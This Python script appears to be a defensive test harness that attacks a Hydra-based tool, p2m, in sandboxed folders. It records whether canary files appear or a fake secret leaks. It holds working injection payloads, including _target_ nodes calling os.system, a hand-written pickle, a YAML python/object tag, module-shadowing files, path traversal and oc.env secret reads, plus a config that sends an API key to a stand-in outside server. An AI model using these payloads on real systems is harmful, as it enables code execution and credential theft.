"""Attacks p2m with configs and command lines of somebody else; prints what each of them got.

    python experiments/field_faults/attack.py [--p2m "python -m p2m"] [NAME ...]

Each attack is a few small files and a command, tried with mode=plan and, but for the slowest, with
mode=run.  executed: the canary file that the attack would make is there.  read: the secret of an
environment variable or of a file at home is in what p2m said or wrote.  outside: something was
made or changed outside the working folder.  traceback: what p2m said has one.
"""

import argparse
import csv
import os
import shlex
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).parent
SECRET = "sk-canary-5e0b1c"
COLUMNS = ("executed", "read", "outside", "traceback")
# a run of these ends before it trains
SMALL = (
    "prompt=text",
    'prompt.text="Say hi."',
    "prompt.train=train.jsonl",
    "generator=none",
    "retriever=none",
    "processor.min_train=99999",
)
TRAIN = '{"input": "a", "output": "b"}\n{"input": "c", "output": "d"}\n'


@dataclass(frozen=True)
class Attack:
    """words: the command's.  files: by path in the working folder; OUT in both is outside it."""

    name: str
    words: tuple[str, ...]
    files: dict[str, str] = field(default_factory=dict)
    modes: tuple[str, ...] = ("plan", "run")


def experiment(
    name: str, text: str, *words: str, modes: tuple[str, ...] = ("plan", "run")
) -> Attack:
    files = {"theirs/experiment/e.yaml": f"# @package _global_\n{text}\n"}
    return Attack(name, ("--config-dir", "theirs", "experiment=e", *words), files, modes)


def primary(name: str, text: str, *words: str) -> Attack:
    files = {"theirs/my.yaml": f"defaults: [config, _self_]\n{text}\n"}
    return Attack(name, ("--config-dir", "theirs", "--config-name", "my", *words), files)


def attacks() -> Iterator[Attack]:
    yield from _targets()
    yield from _logging()
    yield from _environment()
    yield from _launchers()
    yield from _paths()
    yield from _secrets()
    yield from _modules()
    yield from _broken()


def _targets() -> Iterator[Attack]:
    calls = {
        "os.system": "[touch OUT/executed]",
        "subprocess.check_output": "[[touch, OUT/executed]]",
        "sympy.sympify": "[\"__import__('os').system('touch OUT/executed')\"]",
        "builtins.exec": "[\"open('OUT/executed', 'w')\"]",
        "pathlib.Path.touch": "[OUT/executed]",
        "hydra.utils.call": "[{_target_: os.system, command: touch OUT/executed}]",
        "numpy.load": "[theirs/x.npy, null, true]",
        "torch.load": "[theirs/x.pt]",
        "pandas.read_pickle": "[theirs/x.pkl]",
    }
    for target, args in calls.items():
        node = f"{{_target_: {target}, _args_: {args}}}"
        yield experiment(f"callback {target}", f"hydra: {{callbacks: {{x: {node}}}}}")
    call = "_target_: os.system, command: touch OUT/executed"
    yield experiment("launcher os.system", f"hydra: {{launcher: {{{call}}}}}", "-m", "seed=1,2")
    yield experiment("sweeper os.system", f"hydra: {{sweeper: {{{call}}}}}", "-m", "seed=1,2")
    yield primary("callback of a primary config", f"hydra: {{callbacks: {{x: {{{call}}}}}}}")
    yield experiment(
        "callback by interpolation",
        (
            "seed: 0\nhydra: {callbacks: {x: {_target_: '${hydra.help.header}'}}, help: {header: "
            "os.system}}"
        ),
    )
    yield experiment("component os.system", f"retriever: {{{call}}}")
    yield experiment("component inside another", f"generator: {{teacher: {{{call}}}}}")
    yield experiment(
        "component of p2m that is none",
        "retriever: {_target_: p2m.disk.write_text, path: OUT/executed, text: x}",
    )
    typed = "+hydra.callbacks.x={_target_: os.system, command: touch OUT/executed}"
    yield Attack("callback on the command line", (typed,))
    yield Attack(
        "callback in Hydra's own group",
        ("--config-dir", "theirs", "hydra/callbacks=x"),
        {"theirs/hydra/callbacks/x.yaml": f"x: {{{call}}}\n"},
    )
    yield Attack(
        "pickle for --experimental-rerun",
        ("--experimental-rerun", "x.pickle"),
        {"x.pickle": "cos\nsystem\n(S'touch OUT/executed'\ntR."},
    )


def _logging() -> Iterator[Attack]:
    for kind in ("job_logging", "hydra_logging"):
        yield experiment(
            f"{kind} factory",
            (
                f"hydra: {{{kind}: {{formatters: {{x: {{(): os.system, command: touch "
                f"OUT/executed}}}}}}}}"
            ),
        )
        yield experiment(
            f"{kind} handler",
            (
                f"hydra: {{{kind}: {{handlers: {{x: {{class: subprocess.Popen, args: [touch, "
                f"OUT/executed]}}}}}}}}"
            ),
        )
        yield experiment(
            f"{kind} file at home",
            (
                f"hydra: {{{kind}: {{handlers: {{console: {{class: logging.FileHandler, "
                f"filename: OUT/home/.bashrc}}}}}}}}"
            ),
        )
    yield experiment(
        "job_logging stream",
        "hydra: {job_logging: {handlers: {console: {stream: 'ext://antigravity.x'}}}}",
    )


def _environment() -> Iterator[Attack]:
    yield experiment("env_set PATH", "hydra: {job: {env_set: {PATH: OUT}}}")
    yield experiment("env_set PYTHONPATH by numbers", "hydra: {job: {env_set: {PYTHONHOME: 1}}}")
    yield experiment("env_copy", "hydra: {job: {env_copy: [CANARY]}}")
    yield Attack("env_set on the command line", ("+hydra.job.env_set.LD_PRELOAD=x.so",))


def _launchers() -> Iterator[Attack]:
    words = "[touch, OUT/executed]"
    train = ("processor.min_train=1", "trainer.max_examples=2", "model=byt5_nano")
    yield experiment(
        "trainer.parallel.launch", f"trainer: {{parallel: {{launch: {words}}}}}", *train
    )
    yield primary(
        "trainer.parallel.launch of a primary config",
        f"trainer: {{parallel: {{launch: {words}}}}}",
        *train,
    )
    yield experiment(
        "trainer.parallel.launch by interpolation",
        (
            "prompt: {data: null}\ntrainer: {parallel: {launch: ['${hydra.job.name}', "
            "OUT/executed]}}\nhydra: {job: {name: touch}}"
        ),
        *train,
    )
    option = {"theirs/trainer/theirs.yaml": f"defaults: [default]\nparallel: {{launch: {words}}}\n"}
    yield Attack(
        "trainer.parallel.launch of an option",
        ("--config-dir", "theirs", "trainer=theirs", *train),
        option,
    )
    sweep = ("-m", "seed=1", "hydra/launcher=submitit_local")
    yield experiment("submitit setup", "hydra: {launcher: {setup: ['touch OUT/executed']}}", *sweep)
    yield experiment(
        "submitit python", "hydra: {launcher: {python: 'touch OUT/executed;'}}", *sweep
    )
    yield experiment(
        "submitit name of a job", 'hydra: {job: {name: "x\\n#SBATCH --wrap=x"}}', *sweep
    )
    yield experiment("submitit folder", "hydra: {launcher: {submitit_folder: OUT/home/x}}", *sweep)
    yield experiment(
        "launcher of an experiment",
        (
            "defaults: [override /hydra/launcher: submitit_slurm]\nhydra: {launcher: "
            "{additional_parameters: {prolog: OUT/x}}}"
        ),
        "-m",
        "seed=1",
    )
    yield experiment(
        "launcher by sweeper.params",
        f"hydra: {{mode: MULTIRUN, sweeper: {{params: {{trainer.parallel.launch: '{words}'}}}}}}",
        *train,
    )
    yield experiment(
        "callback by sweeper.params",
        "hydra: {mode: MULTIRUN, sweeper: {params: {+hydra.callbacks.x._target_: os.abort}}}",
    )


def _paths() -> Iterator[Attack]:
    yield experiment("run.dir at home", "hydra: {run: {dir: OUT/home/.config/x}}")
    yield experiment("sweep.dir at home", "hydra: {sweep: {dir: OUT/home/x}}", "-m", "seed=1,2")
    yield experiment(
        "sweep.subdir upwards", "hydra: {sweep: {subdir: ../../../../../home/x}}", "-m", "seed=1"
    )
    yield experiment("output_subdir at home", "hydra: {output_subdir: OUT/home/x}")
    yield experiment(
        "run.dir by interpolation",
        "hydra: {run: {dir: '${hydra.help.header}/x'}, help: {header: OUT/home}}",
    )
    yield experiment("model named as a path", "teacher: {model: ../../../home/x}")
    yield Attack("config-path to a package", ("--config-path", "pkg://antigravity"))
    yield Attack(
        "config-path to a package, --cfg",
        ("--config-path", "pkg://theirs", "--cfg", "job"),
        {"theirs/__init__.py": "open('OUT/executed', 'w')"},
    )
    for word in ("plain", "--cfg=job", "--info=config"):
        files = {
            "theirs/my.yaml": "defaults: [config]\nhydra: {searchpath: ['pkg://evil_canary']}\n",
            "evil_canary/__init__.py": "open('OUT/executed', 'w')\n",
        }
        words = (
            "--config-dir",
            "theirs",
            "--config-name",
            "my",
            *([] if word == "plain" else word.split("=")),
        )
        yield Attack(f"search path of a package, {word}", words, files)


def _secrets() -> Iterator[Attack]:
    for key in ("prompt.text", "teacher.model", "store", "seed"):
        group, _, name = key.partition(".")
        value = "${oc.env:CANARY}"
        node = f"{group}: {{{name}: '{value}'}}" if name else f"{group}: '{value}'"
        yield experiment(f"oc.env in {key}", node)
    yield experiment(
        "oc.env spelt by parts",
        "calls: '${oc.${store}:CANARY}'\nstore: env",
    )
    yield experiment("oc.env inside oc.decode", "store: '${oc.decode:\"x/${oc.env:CANARY}\"}'")
    yield Attack("oc.env on the command line", ("store=x/${oc.env:CANARY}",))
    yield experiment(
        "oc.env, --cfg --resolve", "store: '${oc.env:CANARY}'", "--cfg", "job", "--resolve"
    )
    yield experiment(
        "key to a stranger's server",
        "defaults: [override /teacher: openai]\nteacher: {base_url: 'https://203.0.113.9/v1'}",
        "generator=prompt2model",
    )
    yield experiment(
        "variable as a key's name",
        (
            "defaults: [override /teacher: openai]\nteacher: {api_key_env: CANARY, base_url: "
            "'https://203.0.113.9/v1'}"
        ),
        "generator=prompt2model",
    )


def _modules() -> Iterator[Attack]:
    for module in ("random", "logging", "json", "torch", "yaml", "sitecustomize"):
        text = "open('OUT/executed', 'w').close()\nraise SystemExit('hijacked')\n"
        yield Attack(f"{module}.py in the working folder", (), {f"{module}.py": text})
    text = "open('OUT/executed', 'w').close()\n"
    train = ("processor.min_train=1", "trainer.max_examples=2", "trainer.max_minutes=0.1")
    yield Attack("random.py while a model is trained", train, {"random.py": text}, ("run",))
    yield Attack("plugin in the working folder", (), {"hydra_plugins/x/__init__.py": text})


def _broken() -> Iterator[Attack]:
    yield experiment("YAML that is none", "a: [")
    yield experiment("YAML tag", "seed: !!python/object/apply:os.system ['touch OUT/executed']")
    yield experiment("YAML date that is none", "seed: 2024-13-45")
    yield experiment("YAML a thousand deep", "seed: " + "[" * 3000 + "]" * 3000, modes=("plan",))
    yield experiment("YAML list for a config", "- a\n- b")
    yield experiment("components that are text", "teacher: x\ntrainer: [1]\nhydra: {launcher: x}")
    yield experiment("interpolation of itself", "seed: ${seed}\ntrainer: ${trainer}")
    yield experiment("interpolation that is none", "prompt: {text: '${', data: '${x:'}")
    yield primary("primary config with a strange hydra", "hydra: x")
    yield primary("search path that is text", "hydra: {searchpath: 'pkg://x'}")
    yield Attack(
        "config that is no text",
        ("--config-dir", "theirs", "experiment=e"),
        {"theirs/experiment/e.yaml": "\x00\udcff"},
    )
    for word in (
        "prompt.text=Don't, (ever)",
        "seed={",
        "=",
        "+",
        "~",
        "a..b=1",
        "hydra.searchpath=[x://y]",
        "trainer.optimizer.lr=" + "9" * 5000,
    ):
        yield Attack(f"words {word[:24]}", (word,))


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument(
        "--p2m", default=f"{shlex.quote(sys.executable)} -m p2m", help="the command"
    )
    parser.add_argument("--out", type=Path, default=HERE / "results.csv")
    parser.add_argument("--jobs", type=int, default=2)
    parser.add_argument("names", nargs="*", help="beginnings of names; all without one")
    args = parser.parse_args()
    chosen = [a for a in attacks() if not args.names or a.name.startswith(tuple(args.names))]
    rows = run(chosen, shlex.split(args.p2m), args.jobs)
    with args.out.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    for row in rows:
        if any(row[column] for column in COLUMNS):
            print(row)
    totals = {column: sum(int(row[column]) for row in rows) for column in COLUMNS}
    print(f"| tried | {' | '.join(COLUMNS)} |\n|{'---|' * 5}")
    print(f"| {len(rows)} | {' | '.join(map(str, totals.values()))} |")
    sys.exit(any(totals.values()))


def run(chosen: Iterable[Attack], command: list[str], jobs: int = 2) -> list[dict[str, object]]:
    """A row for each attack and mode, in their order."""
    tries = [(attack, mode) for attack in chosen for mode in attack.modes]
    with ThreadPoolExecutor(jobs) as pool:
        return list(pool.map(lambda each: attempt(*each, command), tries))


def attempt(attack: Attack, mode: str, command: list[str]) -> dict[str, object]:
    """What p2m did in a folder of its own, with a home and a canary beside it."""
    with tempfile.TemporaryDirectory(prefix="attack-") as name:
        outside, work = Path(name, "out"), Path(name, "here")
        _write(outside, {"home/.bashrc": "", "home/.netrc": SECRET}, outside)
        _write(work, {"train.jsonl": TRAIN, **attack.files}, outside)
        before = _state(outside)
        words = [word.replace("OUT", str(outside)) for word in attack.words]
        flags = [] if "--cfg" in words or "--info" in words else [f"mode={mode}"]
        result = subprocess.run(
            [*command, *words[:4], *SMALL, *words[4:], *flags]
            if words
            else [*command, *SMALL, *flags],
            cwd=work,
            env=_variables(outside, work),
            capture_output=True,
            timeout=250,
            check=False,
        )
        said = (result.stdout + result.stderr).decode(errors="replace")
        shutil.rmtree(work / "tmp")
        written = b"".join(
            path.read_bytes()
            for path in work.rglob("*")
            if path.is_file() and "theirs" not in path.parts
        )
        paths = "\n".join(map(str, work.rglob("*")))
        return {
            "attack": attack.name,
            "mode": mode,
            "code": result.returncode,
            "executed": int((outside / "executed").exists()),
            "read": int(SECRET in said + paths or SECRET.encode() in written),
            "outside": int(_state(outside) != before),
            "traceback": int("Traceback" in said),
            "said": next(
                (line.strip()[:160] for line in reversed(said.split("\n")) if line.strip()), ""
            )
            .replace(name, "")
            .replace(f"{HERE.parents[1]}/", ""),
        }


def _write(folder: Path, files: dict[str, str], outside: Path) -> None:
    for path, text in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        data = text.replace("OUT", str(outside)).encode(errors="surrogateescape")
        (folder / path).write_bytes(data)


def _variables(outside: Path, work: Path) -> dict[str, str]:
    (work / "tmp").mkdir()
    kept = {name: os.environ[name] for name in ("PATH", "PYTHONPATH", "LANG") if name in os.environ}
    return kept | {
        "HOME": str(outside / "home"),
        "TMPDIR": str(work / "tmp"),
        "XDG_CACHE_HOME": str(work / "tmp"),
        "HF_HOME": str(work / "tmp"),
        "CANARY": SECRET,
        "OPENAI_API_KEY": SECRET,
        "OMP_NUM_THREADS": "1",
        "CUDA_VISIBLE_DEVICES": "",
    }


def _state(folder: Path) -> dict[str, bytes]:
    """Every file and folder below, with what is in it."""
    return {str(p): p.read_bytes() if p.is_file() else b"" for p in sorted(folder.rglob("*"))}


if __name__ == "__main__":
    main()
